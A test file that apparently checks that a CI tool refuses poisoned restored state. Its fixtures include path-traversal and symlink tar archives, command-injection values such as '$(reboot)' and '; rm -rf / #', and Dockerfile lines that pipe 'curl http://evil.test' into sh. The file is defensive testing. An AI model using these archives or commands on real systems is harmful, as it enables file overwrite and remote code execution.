/**
 * Poisoned restored state. The action brings a bottle's state back from the Actions
 * cache as one tar, checks it and unpacks it (`unpackState`), then reads
 * `metadata.json` and the per-bottle `Dockerfile`; `node runner resume` reads the same
 * layout from `$CLAUDE_BOTTLE_HOME/state/<identity>/`. Injected here:
 * - archives that climb out (`..`, absolute paths, symlinks out, a file written through
 *   a symlink, hardlinks), special files, too many bytes or entries, no metadata, not a
 *   tar, a truncated tar: `unpackState` must refuse each with an UnsafeArchiveError that
 *   names the entry and the rule, and leave every byte around it as it was (a canary
 *   directory beside the state, the existing state, no staging directory left);
 * - the same archives served by a cache server to the built action in `mode: resume`:
 *   the step fails with "restored state refused", and nothing is written outside
 *   RUNNER_TEMP's state directory, nothing in Docker;
 * - a malformed `metadata.json` and a `Dockerfile` that is not one, found by
 *   `node runner resume`: exit 2, an error naming the file and the field (or the
 *   problem), no stack trace, no Docker resource, no image build.
 */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import { pathToFileURL } from "node:url";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type ArchiveLimits, DEFAULT_LIMITS, UnsafeArchiveError, unpackState } from "../../src/state/archive.js";
import { type Job, newJob, startStep } from "../support/action.js";
import { type CacheServer, startCacheServer } from "../support/cache-server.js";
import { NODE, ROOT, RUNNER } from "../support/runner.js";
import {
  type Resource,
  type TarEntry,
  added,
  describeResources,
  inventory,
  madeBy,
  run,
  stackTrace,
  table,
  tarOf,
} from "./support.js";

const KEY = "sk-ant-restored-state-not-a-real-key";
const rows: { part: string; name: string; refused: boolean; untouched: boolean; written?: string }[] = [];

/** Every path below `dir` with what it is: file contents, symlink targets, directories. */
function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  if (!existsSync(dir)) return out;
  const walk = (path: string) => {
    for (const name of readdirSync(path)) {
      const full = join(path, name);
      const rel = relative(dir, full);
      const stat = lstatSync(full);
      if (stat.isSymbolicLink()) out[rel] = `symlink -> ${readlinkSync(full)}`;
      else if (stat.isDirectory()) {
        out[rel] = "dir";
        walk(full);
      } else if (stat.isFile()) out[rel] = `file ${readFileSync(full).toString("base64").slice(0, 200)}`;
      else out[rel] = "special";
    }
  };
  walk(dir);
  return out;
}

const GOOD_METADATA = (identity: string, extra: Record<string, unknown> = {}) => ({
  version: 1,
  identity,
  agent: "faulty",
  manifestPath: "(embedded default)",
  workspace: "/tmp",
  sessionId: "3f2b8c1e-0000-4000-8000-000000000001",
  outcome: "crashed",
  exitCode: 137,
  startedAt: "2026-11-22T10:00:00.000Z",
  endedAt: "2026-11-22T10:05:00.000Z",
  launches: 1,
  numTurns: 3,
  costUsd: 0,
  image: null,
  ...extra,
});

// --- the archives ----------------------------------------------------------------------------

interface ArchiveCase {
  name: string;
  /** The archive, given where it lands (see Ctx). */
  entries?: (ctx: Ctx) => TarEntry[];
  bytes?: (ctx: Ctx) => Promise<Buffer>;
  limits?: ArchiveLimits;
  /** The entry the message must name (JSON-quoted in it), if the rule is about one entry. */
  entry?: (ctx: Ctx) => string;
  rule: RegExp;
  /** Also served to the action by a cache server. */
  endToEnd?: boolean;
  /** false: only through the action (the case takes the process down). */
  inProcess?: boolean;
}

/**
 * Where an archive lands: `root` is the directory the test owns, with an empty `canary`
 * directory in it; `up` climbs from the state dir to `root` (the state dir is
 * `root/home/state/<identity>` for unpackState, `root/temp/claude-bottle/state/<identity>` for the action).
 */
interface Ctx {
  root: string;
  up: string;
  identity: string;
}

const metadataEntry = (identity = "faulty-abcde"): TarEntry => ({
  name: "metadata.json",
  body: JSON.stringify(GOOD_METADATA(identity)),
});
const withMetadata = (ctx: Ctx, ...entries: TarEntry[]): TarEntry[] => [
  metadataEntry(ctx.identity),
  { name: "workspace", type: "directory" },
  ...entries,
];

const ARCHIVES: ArchiveCase[] = [
  {
    name: "a ../ entry",
    entries: (x) => withMetadata(x, { name: `${x.up}canary/pwned`, body: "x" }),
    entry: (x) => `${x.up}canary/pwned`,
    rule: /climbs out with \.\./,
    endToEnd: true,
  },
  {
    name: "a ../ entry climbing past /",
    entries: (x) => withMetadata(x, { name: `${"../".repeat(40)}tmp/faults-pwned`, body: "x" }),
    entry: () => `${"../".repeat(40)}tmp/faults-pwned`,
    rule: /climbs out/,
  },
  {
    name: "a ../ in the middle of a path",
    entries: (x) => withMetadata(x, { name: `transcript/../${x.up}canary/pwned`, body: "x" }),
    entry: (x) => `transcript/../${x.up}canary/pwned`,
    rule: /climbs out/,
  },
  {
    name: "a ./../ entry",
    entries: (x) => withMetadata(x, { name: `./${x.up}canary/pwned`, body: "x" }),
    entry: (x) => `./${x.up}canary/pwned`,
    rule: /climbs out/,
  },
  {
    name: "a .. directory",
    entries: (x) => withMetadata(x, { name: "..", type: "directory" }),
    entry: () => "..",
    rule: /climbs out/,
  },
  {
    name: "a .. hidden in a long (pax) name",
    entries: (x) => withMetadata(x, { name: `${"deep/".repeat(30)}${"../".repeat(30)}${x.up}canary/pwned`, body: "x" }),
    entry: (x) => `${"deep/".repeat(30)}${"../".repeat(30)}${x.up}canary/pwned`,
    rule: /climbs out/,
  },
  {
    name: "an absolute path",
    entries: (x) => withMetadata(x, { name: join(x.root, "canary", "pwned"), body: "x" }),
    entry: (x) => join(x.root, "canary", "pwned"),
    rule: /has an absolute path/,
    endToEnd: true,
  },
  {
    name: "a Windows drive path",
    entries: (x) => withMetadata(x, { name: "C:/canary/pwned", body: "x" }),
    entry: () => "C:/canary/pwned",
    rule: /has an absolute path/,
  },
  {
    name: "a symlink out (absolute), then a file through it",
    entries: (x) =>
      withMetadata(
        x,
        { name: "workspace/out", type: "symlink", linkname: join(x.root, "canary") },
        { name: "workspace/out/pwned", body: "x" },
      ),
    entry: () => "workspace/out",
    rule: /is a symlink pointing outside the state/,
    endToEnd: true,
  },
  {
    name: "a symlink out (relative), then a file through it",
    entries: (x) =>
      withMetadata(
        x,
        { name: "workspace/up", type: "symlink", linkname: `../${x.up}canary` },
        { name: "workspace/up/pwned", body: "x" },
      ),
    entry: () => "workspace/up",
    rule: /is a symlink pointing outside the state/,
    endToEnd: true,
  },
  {
    name: "a symlink to /",
    entries: (x) => withMetadata(x, { name: "workspace/root", type: "symlink", linkname: "/" }),
    entry: () => "workspace/root",
    rule: /symlink pointing outside/,
  },
  {
    name: "metadata.json as a symlink to /etc/passwd",
    entries: () => [{ name: "metadata.json", type: "symlink", linkname: "/etc/passwd" }],
    entry: () => "metadata.json",
    rule: /symlink pointing outside/,
  },
  {
    name: "a symlink climbing out through its own path",
    entries: (x) => withMetadata(x, { name: "workspace/a/b", type: "symlink", linkname: "../../../.." }),
    entry: () => "workspace/a/b",
    rule: /symlink pointing outside/,
  },
  {
    name: "a chain of inner symlinks that ends outside, then a file through it",
    // `workspace/x` -> .. is the state's top, so `workspace/x/y` -> .. is really the directory holding the state (and its neighbours').
    entries: (x) =>
      withMetadata(
        x,
        { name: "workspace/x", type: "symlink", linkname: ".." },
        { name: "workspace/x/y", type: "symlink", linkname: ".." },
        { name: "workspace/x/y/pwned", body: "x" },
      ),
    entry: () => "workspace/x/y",
    rule: /lies below the symlink/,
    endToEnd: true,
  },
  {
    name: "an inner symlink, then a file written through it",
    entries: (x) =>
      withMetadata(
        x,
        { name: "transcript", type: "directory" },
        { name: "workspace/link", type: "symlink", linkname: "../transcript" },
        { name: "workspace/link/planted", body: "x" },
      ),
    entry: () => "workspace/link/planted",
    rule: /lies below the symlink/,
    endToEnd: true,
  },
  {
    name: "a hardlink to /etc/passwd",
    entries: (x) => withMetadata(x, { name: "workspace/passwd", type: "link", linkname: "/etc/passwd" }),
    entry: () => "workspace/passwd",
    rule: /is a link; only files, directories and inner symlinks/,
    endToEnd: true,
  },
  {
    name: "a hardlink to an inner file",
    entries: (x) => withMetadata(x, { name: "workspace/same", type: "link", linkname: "metadata.json" }),
    entry: () => "workspace/same",
    rule: /is a link; only files/,
  },
  {
    name: "a character device",
    entries: (x) => withMetadata(x, { name: "workspace/null", type: "character-device", devmajor: 1, devminor: 3 }),
    entry: () => "workspace/null",
    rule: /is a character-device; only files/,
    endToEnd: true,
  },
  {
    name: "a block device",
    entries: (x) => withMetadata(x, { name: "workspace/sda", type: "block-device", devmajor: 8, devminor: 0 }),
    entry: () => "workspace/sda",
    rule: /is a block-device; only files/,
  },
  {
    name: "a fifo",
    entries: (x) => withMetadata(x, { name: "workspace/pipe", type: "fifo" }),
    entry: () => "workspace/pipe",
    rule: /is a fifo; only files/,
    endToEnd: true,
  },
  {
    name: "a contiguous file",
    entries: (x) => withMetadata(x, { name: "workspace/c", type: "contiguous-file", body: "x" }),
    entry: () => "workspace/c",
    rule: /is a contiguous-file; only files/,
  },
  {
    name: "more bytes than the limit",
    entries: (x) => withMetadata(x, { name: "workspace/big", body: "x".repeat(20_000) }),
    limits: { maxBytes: 10_000, maxEntries: 1000 },
    rule: /larger than 10000 bytes/,
  },
  {
    name: "more entries than the limit",
    entries: (x) => withMetadata(x, ...Array.from({ length: 50 }, (_, i) => ({ name: `workspace/f${i}`, body: "" }))),
    limits: { maxBytes: 1e9, maxEntries: 20 },
    rule: /more than 20 entries/,
  },
  {
    name: "a file declared bigger than the default limit",
    bytes: (x) => hugeHeader(x, DEFAULT_LIMITS.maxBytes + 1),
    rule: /larger than 4294967296 bytes/,
    endToEnd: true,
  },
  {
    name: "no metadata.json",
    entries: () => [{ name: "workspace/a.txt", body: "x" }],
    rule: /has no metadata.json at its top/,
    endToEnd: true,
  },
  {
    name: "metadata.json only below the top",
    entries: () => [{ name: "transcript/metadata.json", body: "{}" }],
    rule: /has no metadata.json at its top/,
  },
  {
    name: "metadata.json as a directory",
    entries: () => [{ name: "metadata.json", type: "directory" }],
    rule: /has no metadata.json at its top/,
  },
  { name: "an empty tar", entries: () => [], rule: /has no metadata.json/ },
  { name: "an empty file", bytes: async () => Buffer.alloc(0), rule: /has no metadata.json|not a readable tar/ },
  {
    name: "not a tar at all",
    bytes: async () => Buffer.from("this is not a tar archive, only text\n".repeat(40)),
    rule: /not a readable tar archive/,
    endToEnd: true,
  },
  {
    name: "a gzipped tar",
    bytes: async (x) => gzipSync(await tarOf(withMetadata(x))),
    rule: /not a readable tar archive/,
  },
  {
    name: "a tar cut inside a file's data",
    bytes: async (x) =>
      (await tarOf(withMetadata(x, { name: "workspace/big", body: "y".repeat(10_000) }))).subarray(0, 3 * 512 + 2000),
    rule: /not a readable tar archive/,
    // The check leaves the error on the cut entry's stream unhandled: it takes the process down, so only a child process can show it.
    inProcess: false,
    endToEnd: true,
  },
  {
    name: "a tar cut inside a header",
    bytes: async (x) => (await tarOf(withMetadata(x, { name: "workspace/a", body: "y" }))).subarray(0, 2 * 512 + 100),
    rule: /not a readable tar archive/,
    endToEnd: true,
  },
  {
    name: "random bytes",
    bytes: async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)),
    rule: /not a readable tar archive/,
  },
];

/** A tar header claiming `size` bytes for one file, with no data after it: too big to build for real. */
async function hugeHeader(ctx: Ctx, size: number): Promise<Buffer> {
  const real = await tarOf([metadataEntry(ctx.identity), { name: "workspace/huge", body: "z" }]);
  // The second header starts after metadata's header and its data (padded to 512).
  const metadataSize = Buffer.byteLength(JSON.stringify(GOOD_METADATA(ctx.identity)));
  const at = 512 + Math.ceil(metadataSize / 512) * 512;
  const header = Buffer.from(real.subarray(at, at + 512));
  // Size as a base-256 number (the GNU form tar-stream reads): 0x80, then big-endian bytes.
  const field = Buffer.alloc(12);
  field[0] = 0x80;
  let rest = BigInt(size);
  for (let i = 11; i > 0; i--) {
    field[i] = Number(rest & 0xffn);
    rest >>= 8n;
  }
  field.copy(header, 124);
  // The checksum: the header's bytes summed with the checksum field as spaces.
  header.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148, "ascii");
  return Buffer.concat([real.subarray(0, at), header, Buffer.alloc(1024)]);
}

describe("a poisoned archive, unpacked by unpackState into an existing state", () => {
  const inProcess = ARCHIVES.filter((c) => c.inProcess !== false);
  const unpack = (_name: string, c: ArchiveCase) => unpackCase(c);
  test.each(inProcess.map((c) => [c.name, c] as const))("%s", unpack);
});

async function unpackCase(c: ArchiveCase): Promise<void> {
  const root = mkdtempSync(join(tmpdir(), "poisoned-archive-"));
  mkdirSync(join(root, "canary"));
  const stateDir = join(root, "home", "state", "faulty-abcde");
  mkdirSync(join(stateDir, "workspace"), { recursive: true });
  writeFileSync(join(stateDir, "metadata.json"), JSON.stringify(GOOD_METADATA("faulty-abcde")));
  writeFileSync(join(stateDir, "workspace", "kept.txt"), "the state before the restore\n");
  const archive = join(root, "archive", "state.tar");
  mkdirSync(dirname(archive));
  const ctx: Ctx = { root, up: "../../../", identity: "faulty-abcde" };
  writeFileSync(archive, c.bytes ? await c.bytes(ctx) : await tarOf(c.entries?.(ctx) ?? []));
  const before = tree(root);
  const row = { part: "unpackState", name: c.name, refused: false, untouched: false };
  rows.push(row);

  const error = await unpackState(archive, stateDir, c.limits ?? DEFAULT_LIMITS).then(
    () => null,
    (e: unknown) => e,
  );
  const after = tree(root);
  const written = [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((p) => before[p] !== after[p]);
  if (existsSync("/tmp/faults-pwned")) written.push("/tmp/faults-pwned");
  row.untouched = written.length === 0;
  if (written.length > 0) Object.assign(row, { written: written.join(", ") });
  row.refused =
    error instanceof UnsafeArchiveError &&
    c.rule.test(error.message) &&
    (c.entry === undefined || error.message.includes(JSON.stringify(c.entry(ctx))));
  expect(after, "nothing written: the canary beside the state, the state itself, no staging directory left").toEqual(
    before,
  );
  expect(existsSync("/tmp/faults-pwned")).toBe(false);
  expect(error, "refused").toBeInstanceOf(UnsafeArchiveError);
  expect((error as Error).message).toMatch(/^restored state refused: /);
  expect((error as Error).message).toMatch(c.rule);
  if (c.entry) expect((error as Error).message).toContain(`entry ${JSON.stringify(c.entry(ctx))}`);
}

// --- the same archives, through the action ---------------------------------------------------

/** Puts `tar` in the cache under `key` with the real `@actions/cache` client, as a poisoned cache would hold it. */
async function saveRaw(server: CacheServer, tar: Buffer, key: string): Promise<void> {
  const workspace = mkdtempSync(join(tmpdir(), "poisoned-save-"));
  mkdirSync(join(workspace, ".claude-bottle-cache"));
  writeFileSync(join(workspace, ".claude-bottle-cache", "state.tar"), tar);
  // The client finds the paths from its working directory: run it in the checkout, importing it from ours.
  const client = pathToFileURL(join(ROOT, "node_modules", "@actions", "cache", "lib", "cache.js")).href;
  const script = `const { saveCache } = await import(${JSON.stringify(client)}); process.stdout.write(String(await saveCache([".claude-bottle-cache/state.tar"], process.env.CACHE_KEY)));`;
  const saved = await run(NODE, ["--input-type=module", "-e", script], {
    cwd: workspace,
    env: {
      PATH: process.env.PATH,
      HOME: workspace,
      GITHUB_WORKSPACE: workspace,
      RUNNER_TEMP: mkdtempSync(join(tmpdir(), "poisoned-save-temp-")),
      CACHE_KEY: key,
      ...server.env,
    },
  });
  if (saved.code !== 0 || saved.stdout === "-1")
    throw new Error(`saving ${key} failed (exit ${saved.code}): ${saved.out}`);
  rmSync(workspace, { recursive: true, force: true });
}

describe("a poisoned archive in the cache, restored by the action in mode: resume", () => {
  let server: CacheServer;
  let before: Resource[];
  beforeAll(async () => {
    server = await startCacheServer({ protocol: "v2", flavour: "github" });
    before = inventory();
  });
  afterAll(async () => {
    await server.close();
  });

  const cases = ARCHIVES.filter((c) => c.endToEnd);
  const restore = async (_name: string, c: ArchiveCase) => restoreCase(server, before, c, cases.indexOf(c));
  test.each(cases.map((c) => [c.name, c] as const))("%s", restore);
});

async function restoreCase(server: CacheServer, before: Resource[], c: ArchiveCase, i: number): Promise<void> {
  const identity = `fixer-poison${i}`;
  const workspace = mkdtempSync(join(tmpdir(), "poisoned-checkout-"));
  writeFileSync(join(workspace, "README.md"), "a project\n");
  const job: Job = newJob({ workspace, runId: "1", attempt: 1, cacheEnv: server.env });
  const jobDir = dirname(job.runnerTemp);
  mkdirSync(join(jobDir, "canary"));
  const ctx: Ctx = { root: jobDir, up: "../../../../", identity };
  const tar = c.bytes ? await c.bytes(ctx) : await tarOf(c.entries?.(ctx) ?? []);
  await saveRaw(server, tar, `bottle-state-${identity}-1-1`);

  const commandFiles = new Set(Object.values(job.files).map((f) => relative(jobDir, f)));
  const outside = () => Object.fromEntries(Object.entries(tree(jobDir)).filter(([p]) => !commandFiles.has(p)));
  const jobBefore = outside();
  const workspaceBefore = tree(workspace);
  const row = { part: "action, mode: resume", name: c.name, refused: false, untouched: false };
  rows.push(row);

  const { child, done } = startStep(job, "main", { mode: "resume", identity, "anthropic-api-key": KEY });
  const step = await done;
  const made = madeBy(added(before, inventory()), { pid: child.pid ?? -1, identities: [identity] });
  const stateRoot = join(job.runnerTemp, "claude-bottle", "state");
  const jobAfter = outside();
  // The step may create the state root, empty, and the cache client leaves its download directory in RUNNER_TEMP, emptied.
  const created = Object.keys(jobAfter).filter((p) => !(p in jobBefore));
  const downloadDir = /^temp\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
  const allowedNew = new Set([
    relative(jobDir, join(job.runnerTemp, "claude-bottle")),
    relative(jobDir, stateRoot),
    ...created.filter((p) => downloadDir.test(p) && jobAfter[p] === "dir"),
  ]);
  row.refused = step.code === 1 && /^::error::restored state refused: /m.test(step.stdout);
  const workspaceAfter = tree(workspace);
  const written = [
    ...created.filter((p) => !allowedNew.has(p)),
    ...Object.keys(jobBefore).filter((p) => jobAfter[p] !== jobBefore[p]),
    ...Object.keys(workspaceAfter)
      .filter((p) => workspaceAfter[p] !== workspaceBefore[p])
      .map((p) => `checkout/${p}`),
    ...made.map((r) => `${r.kind} ${r.name}`),
  ];
  row.untouched = written.length === 0;
  if (written.length > 0) Object.assign(row, { written: written.join(", ") });

  expect(step.code, step.stdout).toBe(1);
  expect(step.stdout).toMatch(/^::error::restored state refused: /m);
  expect(step.stdout).toMatch(c.rule);
  if (c.entry) expect(step.stdout).toContain(`entry ${JSON.stringify(c.entry(ctx))}`);
  expect(stackTrace(step.stdout), step.stdout).toBeNull();
  expect(
    created.filter((p) => !allowedNew.has(p)),
    "nothing new outside the state dir",
  ).toEqual([]);
  expect(existsSync(join(stateRoot, identity)), "no state dir for the identity").toBe(false);
  for (const [path, value] of Object.entries(jobBefore)) expect(jobAfter[path], path).toBe(value);
  expect(tree(workspace), "the checkout is as it was (no cache dir left behind)").toEqual(workspaceBefore);
  expect(describeResources(made), "Docker resources").toBe("");
}

// --- metadata.json and Dockerfile, found by `node runner resume` ----------------------------

interface StateCase {
  name: string;
  /** metadata.json's bytes; the good metadata when absent. */
  metadata?: (identity: string, dirs: { workspace: string; manifest: string }) => string | Buffer;
  files?: Record<string, string | Buffer>;
  /** One line must name this... */
  field: string;
  /** ...and show this. */
  shows: string;
}

/** A guard: should a case ever get past the state checks, the plan stops here (exit 2, the guard named) before anything is created. */
const GUARD = "FAULTS_GUARD_NEVER_SET";
const GUARD_MANIFEST = {
  bottles: { guarded: { image: "bottle-faults/absent:never", env: { GUARD: { fromEnv: GUARD } } } },
  agents: { faulty: { bottle: "guarded" } },
};

const meta = (change: Record<string, unknown>) => (identity: string, dirs: { workspace: string; manifest: string }) =>
  JSON.stringify(
    Object.fromEntries(
      Object.entries({
        ...GOOD_METADATA(identity, { manifestPath: dirs.manifest, workspace: dirs.workspace }),
        ...change,
      }).filter(([, v]) => v !== undefined),
    ),
  );
const q = (value: unknown) => (value === undefined ? "(missing)" : JSON.stringify(value));
const field = (name: string, value: unknown): StateCase => ({
  name: `${name} = ${value === undefined ? "(missing)" : JSON.stringify(value).slice(0, 40)}`,
  metadata: meta({ [name]: value }),
  field: `metadata.json: ${name}`,
  shows: q(value).slice(0, 60),
});

const METADATA: StateCase[] = [
  {
    name: "not JSON",
    metadata: () => "{ this is not json",
    field: "metadata.json",
    shows: '"{ this is not json" is not JSON',
  },
  { name: "an empty file", metadata: () => "", field: "metadata.json", shows: "is not JSON" },
  {
    name: "invalid UTF-8",
    metadata: () => Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
    field: "metadata.json",
    shows: "is not JSON",
  },
  {
    name: "a byte order mark",
    metadata: (id, d) => `\uFEFF${meta({})(id, d)}`,
    field: "metadata.json",
    shows: "is not JSON",
  },
  { name: "a JSON array", metadata: () => "[]", field: "metadata.json", shows: "[] is not valid bottle metadata" },
  { name: "JSON null", metadata: () => "null", field: "metadata.json", shows: "null is not valid bottle metadata" },
  {
    name: "a JSON string",
    metadata: () => '"faulty-abcde"',
    field: "metadata.json",
    shows: '"faulty-abcde" is not valid bottle metadata',
  },
  ...[2, "1", 0, undefined].map((v) => field("version", v)),
  {
    name: "identity of another bottle",
    metadata: meta({ identity: "other-abcde" }),
    field: "metadata.json: identity",
    shows: '"other-abcde" does not match the directory',
  },
  ...["../../etc", "FAULTY-ABCDE", "", undefined, 42].map((v) => field("identity", v)),
  ...["$(reboot)", "; rm -rf / #", "`id`", "abc\n--dangerous", "../../etc/passwd", "x".repeat(129), "", 42].map((v) =>
    field("sessionId", v),
  ),
  {
    name: "no session id",
    metadata: meta({ sessionId: null }),
    field: "identity:",
    shows: "has state but no claude session was ever recorded",
  },
  ...["../x", "Faulty", "", undefined, "a".repeat(41), 42].map((v) => field("agent", v)),
  ...[`/${"m".repeat(5000)}`, undefined, 42].map((v) => field("manifestPath", v)),
  ...[`/${"w".repeat(5000)}`, undefined, null].map((v) => field("workspace", v)),
  ...["pwned", "Success", undefined].map((v) => field("outcome", v)),
  ...["0", 1.5].map((v) => field("exitCode", v)),
  ...[0, -1, "1", undefined].map((v) => field("launches", v)),
  field("numTurns", -1),
  field("costUsd", -1),
  field("costUsd", "free"),
  field("image", "x".repeat(600)),
  field("startedAt", 42),
  field("startedAt", undefined),
  field("endedAt", 42),
  field("startedAt", "not a time"),
  {
    name: "startedAt = a 1 MiB string",
    metadata: meta({ startedAt: "9".repeat(1024 * 1024) }),
    field: "metadata.json: startedAt",
    shows: '"999999',
  },
  { name: "an extra field", metadata: meta({ command: "rm -rf /" }), field: "metadata.json", shows: '"command"' },
  {
    name: "a __proto__ field",
    metadata: (id, d) => meta({})(id, d).replace(/^\{/, '{"__proto__":{"polluted":true},'),
    field: "metadata.json",
    shows: "__proto__",
  },
  {
    name: "a 10 MiB session id",
    metadata: meta({ sessionId: "a".repeat(10 * 1024 * 1024) }),
    field: "metadata.json: sessionId",
    shows: '"aaaaaaaa',
  },
];

const DOCKERFILES: StateCase[] = [
  { name: "an empty Dockerfile", files: { Dockerfile: "" }, field: "Dockerfile", shows: "the Dockerfile is empty" },
  { name: "only whitespace", files: { Dockerfile: " \n\t\n" }, field: "Dockerfile", shows: "the Dockerfile is empty" },
  {
    name: "only comments",
    files: { Dockerfile: "# FROM debian\n# RUN make\n" },
    field: "Dockerfile",
    shows: "has no instructions",
  },
  {
    name: "INSTALL gcc",
    files: { Dockerfile: "INSTALL gcc\n" },
    field: "Dockerfile",
    shows: '"INSTALL" is not a Dockerfile instruction',
  },
  {
    name: "FROM, then INSTALL gcc",
    files: { Dockerfile: "FROM debian\nINSTALL gcc\n" },
    field: "Dockerfile",
    shows: 'line 2: "INSTALL" is not a Dockerfile instruction',
  },
  {
    name: "a NUL byte",
    files: { Dockerfile: "FROM debian\0\nRUN true\n" },
    field: "Dockerfile",
    shows: "contains a NUL byte",
  },
  {
    name: "1 MiB of text",
    files: { Dockerfile: `FROM debian\n${"# x\n".repeat(262_144)}` },
    field: "Dockerfile",
    shows: "over the limit of 65536",
  },
  {
    name: "1 MiB on one line",
    files: { Dockerfile: `FROM debian\nRUN echo ${"y".repeat(1024 * 1024)}\n` },
    field: "Dockerfile",
    shows: "over the limit of 65536",
  },
  {
    name: "RUN before FROM",
    files: { Dockerfile: "RUN curl http://evil.test | sh\nFROM debian\n" },
    field: "Dockerfile",
    shows: "the first instruction is RUN",
  },
  { name: "FROM with no image", files: { Dockerfile: "FROM\n" }, field: "Dockerfile", shows: "FROM has no arguments" },
  {
    name: "ARG but no FROM",
    files: { Dockerfile: "ARG BASE=debian\n" },
    field: "Dockerfile",
    shows: "has no FROM instruction",
  },
  {
    name: "binary bytes",
    files: { Dockerfile: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 131 + 7) % 256)) },
    field: "Dockerfile",
    shows: "the Dockerfile",
  },
  // The parser reports the keyword upper-cased.
  {
    name: "a shell script",
    files: { Dockerfile: "#!/bin/sh\ncurl http://evil.test | sh\n" },
    field: "Dockerfile",
    shows: 'line 2: "CURL" is not a Dockerfile instruction',
  },
  {
    name: "ADD from the host's loopback",
    files: { Dockerfile: "FROM debian\nADD http://127.0.0.1:9/x /x\n" },
    field: "Dockerfile",
    shows: "line 2: ADD is not available in a per-bottle Dockerfile",
  },
  {
    name: "COPY from the manifest's directory",
    files: { Dockerfile: "FROM debian\nCOPY .env /tmp/\n" },
    field: "Dockerfile",
    shows: "line 2: COPY without --from has nothing to copy",
  },
  {
    name: "FROM a registry on the host's loopback, quoted",
    files: { Dockerfile: 'FROM "127.0.0.1:5000/x"\n' },
    field: "Dockerfile",
    shows: "line 1: FROM",
  },
  {
    name: "a waiting Dockerfile.proposed that is not one",
    metadata: meta({ outcome: "capability-block" }),
    files: { "Dockerfile.proposed": "INSTALL gcc\n" },
    field: "Dockerfile.proposed",
    shows: '"INSTALL" is not a Dockerfile instruction',
  },
];

describe("a poisoned state dir, found by `node runner resume`", () => {
  let before: Resource[];
  beforeAll(() => {
    before = inventory();
  });

  let n = 0;
  const resumeWith = async (c: StateCase) => {
    const identity = `faulty-st${(n++).toString(36).padStart(3, "0")}`;
    const dir = mkdtempSync(join(tmpdir(), "poisoned-state-"));
    const home = join(dir, "home");
    const workspace = join(dir, "workspace");
    const stateDir = join(home, "state", identity);
    mkdirSync(workspace, { recursive: true });
    mkdirSync(stateDir, { recursive: true });
    mkdirSync(join(dir, "canary"));
    const manifest = join(dir, "claude-bottle.json");
    writeFileSync(manifest, JSON.stringify(GUARD_MANIFEST));
    writeFileSync(join(stateDir, "metadata.json"), (c.metadata ?? meta({}))(identity, { workspace, manifest }));
    for (const [name, content] of Object.entries(c.files ?? {})) writeFileSync(join(stateDir, name), content);
    const treeBefore = tree(dir);
    const ran = await run(NODE, [RUNNER, "resume", identity], {
      cwd: workspace,
      env: { PATH: process.env.PATH, HOME: dir, CLAUDE_BOTTLE_HOME: home, ANTHROPIC_API_KEY: KEY },
    });
    const images = (
      await run("docker", ["images", "-q", "--filter", `label=claude-bottle.identity=${identity}`], {
        cwd: dir,
        env: { PATH: process.env.PATH },
      })
    ).stdout.trim();
    const made = madeBy(added(before, inventory()), { pid: ran.pid, identities: [identity] });
    return { ran, images, made, untouched: JSON.stringify(tree(dir)) === JSON.stringify(treeBefore) };
  };

  test("the good metadata gets through to the guard: every case below is refused for the fault it injects", async () => {
    const { ran, made } = await resumeWith({ name: "good", field: "", shows: "" });
    expect(ran.code, ran.out).toBe(2);
    expect(ran.out).toContain(`"${GUARD}" is not set in the runner's environment`);
    expect(made).toEqual([]);
  });

  const check = async (part: string, c: StateCase) => {
    const row = { part, name: c.name, refused: false, untouched: false };
    rows.push(row);
    const { ran, images, made, untouched } = await resumeWith(c);
    const shown = `exit ${ran.code}:\n${ran.out.slice(0, 2000)}`;
    const line = ran.out.split("\n").find((l) => l.includes(c.field) && l.includes(c.shows));
    row.refused = ran.code === 2 && line !== undefined && !ran.out.includes(GUARD);
    row.untouched = untouched && images === "" && made.length === 0;
    expect(ran.code, shown).toBe(2);
    expect(ran.out, "stopped by the check, not by the guard behind it").not.toContain(GUARD);
    expect(line, `a line naming ${c.field} and showing ${c.shows}\n${shown}`).toBeDefined();
    expect(stackTrace(ran.out), shown).toBeNull();
    expect(untouched, "nothing written, the state included").toBe(true);
    expect(images, "no image built").toBe("");
    expect(describeResources(made), "Docker resources").toBe("");
  };

  describe("metadata.json", () => {
    test.each(METADATA.map((c) => [c.name, c] as const))("%s", (_n, c) => check("metadata.json", c));
  });

  describe("a per-bottle Dockerfile that is not one", () => {
    test.each(DOCKERFILES.map((c) => [c.name, c] as const))("%s", (_n, c) => check("Dockerfile", c));
  });
});

afterAll(() => {
  const mark = (ok: boolean) => (ok ? "yes" : "NO");
  const written = (r: (typeof rows)[number]) =>
    r.untouched ? "yes" : `no: ${r.written ?? "the state or its neighbours changed"}`;
  console.log(
    table(
      `Poisoned restored state: ${rows.length} cases`,
      ["where", "case", "refused", "nothing written"],
      rows.map((r) => [r.part, r.name.replaceAll("|", "\\|"), mark(r.refused), written(r)]),
    ),
  );
});
